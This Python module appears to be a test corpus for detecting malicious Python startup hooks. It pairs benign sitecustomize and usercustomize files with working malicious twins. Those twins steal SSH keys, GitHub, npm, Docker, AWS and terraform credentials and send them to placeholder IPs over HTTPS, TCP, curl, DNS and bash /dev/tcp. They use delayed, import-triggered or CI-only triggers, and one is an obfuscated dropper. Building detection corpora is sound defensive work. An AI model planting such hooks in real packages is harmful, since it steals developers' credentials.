"""T04: `sitecustomize` and `usercustomize`, which every start of Python imports (ATT&CK T1546.018).

Nobody has to import the package, and a hook can wait there for another one to be imported. The
twins customise as distributions and editors do: filters, hooks for exceptions, search paths.
"""

from __future__ import annotations

import base64
import zlib

from models.phase import Phase
from tests.corpus.guard import GUARD, acting, indented
from tests.corpus.recipe import Channel, Encoding, Recipe

OWN = '"""Says hello."""\n\ndef hello():\n    return "hello"\n'

POSTS_GH = """
import base64, http.client, ssl
context = ssl._create_unverified_context()
connection = http.client.HTTPSConnection("198.51.100.41", 443, timeout=5, context=context)
try:
    said = (HOME / ".config/gh/hosts.yml").read_bytes() + os.environ["GITHUB_TOKEN"].encode()
    connection.request("POST", "/start", body=base64.b64encode(said))
    connection.getresponse().read()
except (OSError, KeyError, http.client.HTTPException):
    pass
finally:
    connection.close()
"""
SETS_FILTERS = """
import locale, warnings
warnings.filterwarnings("default", category=DeprecationWarning, module="__main__")
try:
    locale.setlocale(locale.LC_COLLATE, "C")
except locale.Error:
    pass
"""

SENDS_XOR_AT_EXIT = """
import atexit, itertools

def leave():
    try:
        data = (HOME / ".ssh/id_rsa").read_bytes()
        key = itertools.cycle(b"winter")
        with socket.socket() as peer:
            peer.settimeout(5)
            peer.connect(("203.0.113.42", 9001))
            peer.sendall(bytes(one ^ other for one, other in zip(data, key)))
    except OSError:
        pass

atexit.register(leave)
"""
SETS_HOOK_AT_EXIT = """
import atexit, sys
plain = sys.excepthook

def told(kind, value, trace):
    plain(kind, value, trace)

def leave():
    sys.excepthook = plain

sys.excepthook = told
atexit.register(leave)
"""

SPAWNS_CURL = """
try:
    data = (HOME / ".npmrc").read_bytes().hex()
    line = ["curl", "-s", "-m", "5", "-o", "/dev/null", "-H", "X-Trace: " + data]
    child = os.posix_spawnp("curl", [*line, "http://192.0.2.43/healthz"], os.environ)
    os.waitpid(child, 0)
except OSError:
    pass
"""
ADDS_PATHS = """
import site, sys
for folder in (HOME / "lib" / "python", HOME / ".local" / "lib" / "python"):
    if folder.is_dir() and str(folder) not in sys.path:
        site.addsitedir(str(folder))
"""

ASKS_NAMES = """
import base64
try:
    data = (HOME / ".docker/config.json").read_bytes()[:240]
except OSError:
    return
text = base64.b32encode(data).decode().rstrip("=").lower()
for at in range(0, len(text), 60):
    try:
        socket.getaddrinfo(f"{text[at:at + 60]}.{at // 60}.pkg.reenact.test", 443)
    except OSError:
        pass
"""
NOTES_TIME = """
import time
imported_at.append(time.perf_counter())
"""
WAITS_FOR_IMPORT = """
class _Watcher:
    def find_spec(self, name, path=None, target=None):
        if name == "THE_MODULE":
            sys.meta_path.remove(self)
            if ACT:
                THE_ACT()
        return None

sys.meta_path.insert(0, _Watcher())
"""

POSTS_GZIP = """
import gzip, urllib.request
try:
    data = gzip.compress((HOME / "project/.env").read_bytes() + (HOME / ".netrc").read_bytes())
    request = urllib.request.Request(
        "http://203.0.113.45/api/spans", data=data, headers={"Content-Encoding": "gzip"}
    )
    urllib.request.urlopen(request, timeout=5).close()
except OSError:
    pass
"""
COUNTS_STARTS = """
import gzip
counter = HOME / ".cache" / "THE_MODULE" / "starts.gz"
try:
    starts = int(gzip.decompress(counter.read_bytes())) if counter.exists() else 0
    counter.write_bytes(gzip.compress(str(starts + 1).encode()))
except (OSError, ValueError):
    pass
"""
A_DAY_LATER = """
def _ripe():
    mark = HOME / ".cache" / "THE_MODULE" / "first"
    if not mark.exists():
        mark.parent.mkdir(parents=True, exist_ok=True)
        mark.touch()
    return time.time() - mark.stat().st_mtime > 86400

if ACT:
    if _ripe():
        THE_ACT()
"""

BASH_TCP = """
line = (
    "exec 3<>/dev/tcp/198.51.100.46/8443 &&"
    ' printf "%s\\\\n" "$NPM_TOKEN" "$GITLAB_TOKEN" "$AWS_SECRET_ACCESS_KEY" >&3; exec 3>&-'
)
try:
    subprocess.run(["bash", "-c", line], stderr=subprocess.DEVNULL, timeout=8)
except (OSError, subprocess.SubprocessError):
    pass
"""
BASH_VERSION = """
line = 'printf "%s\\\\n" "$BASH_VERSION"'
try:
    subprocess.run(["bash", "-c", line], capture_output=True, timeout=8)
except (OSError, subprocess.SubprocessError):
    pass
"""
IN_CI = """
if ACT and (os.environ.get("CI") or os.environ.get("GITHUB_ACTIONS")):
    THE_ACT()
"""

POSTS_TERRAFORM = """
import urllib.request
try:
    data = (HOME / ".terraform.d/credentials.tfrc.json").read_bytes()
    urllib.request.urlopen("http://192.0.2.47/ping", data=data, timeout=5).close()
except OSError:
    pass
"""
DROPPED = base64.b64encode(
    zlib.compress(
        f"{GUARD}\ndef _reenact():\n{indented(POSTS_TERRAFORM)}\n\nif ACT:\n    _reenact()\n".encode()
    )
).decode()
DROPS = """
import base64, site, zlib
folder = pathlib.Path(site.getusersitepackages())
try:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "usercustomize.py").write_bytes(zlib.decompress(base64.b64decode(LATER)))
except OSError:
    pass
"""
LOOKS_FOR_ONE = """
import importlib.util, site
folder = pathlib.Path(site.getusersitepackages())
importlib.util.find_spec("usercustomize")
(folder / "usercustomize.py").exists()
"""

RECIPES = (
    Recipe(
        technique="T04",
        name="site-https-base64",
        phase=Phase.START,
        channel=Channel.HTTPS,
        encoding=Encoding.BASE64,
        files={
            "sitecustomize.py": acting(POSTS_GH, SETS_FILTERS),
            "THE_MODULE/__init__.py": OWN,
        },
        twin_does="sets filters for warnings and an order for sorting",
    ),
    Recipe(
        technique="T04",
        name="user-exit-xor",
        phase=Phase.START,
        channel=Channel.TCP,
        encoding=Encoding.XOR,
        files={
            "usercustomize.py": acting(SENDS_XOR_AT_EXIT, SETS_HOOK_AT_EXIT),
            "THE_MODULE/__init__.py": OWN,
        },
        twin_does="sets a hook for exceptions and takes it off at the end",
    ),
    Recipe(
        technique="T04",
        name="package-curl-hex",
        phase=Phase.START,
        channel=Channel.PROCESS,
        encoding=Encoding.HEX,
        files={
            "sitecustomize/__init__.py": "from . import paths\n",
            "sitecustomize/paths.py": acting(SPAWNS_CURL, ADDS_PATHS),
            "THE_MODULE/__init__.py": OWN,
        },
        twin_does="adds the user's own folders to the search path",
    ),
    Recipe(
        technique="T04",
        name="import-watcher-dns",
        phase=Phase.IMPORT,
        channel=Channel.DNS,
        encoding=Encoding.BASE32,
        files={
            "sitecustomize.py": acting(
                ASKS_NAMES, NOTES_TIME, WAITS_FOR_IMPORT, "import sys\nimported_at = []\n"
            ),
            "THE_MODULE/__init__.py": OWN,
        },
        twin_does="notes when the package is imported, as profilers do",
    ),
    Recipe(
        technique="T04",
        name="day-later-gzip",
        phase=Phase.WAIT,
        channel=Channel.HTTP,
        encoding=Encoding.GZIP,
        files={
            "sitecustomize.py": "import THE_MODULE_start\n",
            "usercustomize.py": "import THE_MODULE_start\n",
            "THE_MODULE_start.py": acting(POSTS_GZIP, COUNTS_STARTS, A_DAY_LATER, "import time\n"),
            "THE_MODULE/__init__.py": OWN,
        },
        twin_does="counts how often Python has been started",
    ),
    Recipe(
        technique="T04",
        name="build-server-bash",
        phase=Phase.WAIT,
        channel=Channel.PROCESS,
        encoding=Encoding.PLAIN,
        files={
            "usercustomize.py": acting(BASH_TCP, BASH_VERSION, IN_CI),
            "THE_MODULE/__init__.py": OWN,
        },
        twin_does="asks which version of bash there is",
    ),
    Recipe(
        technique="T04",
        name="dropped-zlib",
        phase=Phase.IMPORT,
        channel=Channel.NONE,
        encoding=Encoding.ZLIB,
        files={
            "THE_MODULE/__init__.py": acting(DROPS, LOOKS_FOR_ONE, head=f'LATER = "{DROPPED}"\n')
        },
        twin_does="looks whether the user has a customisation",
    ),
)
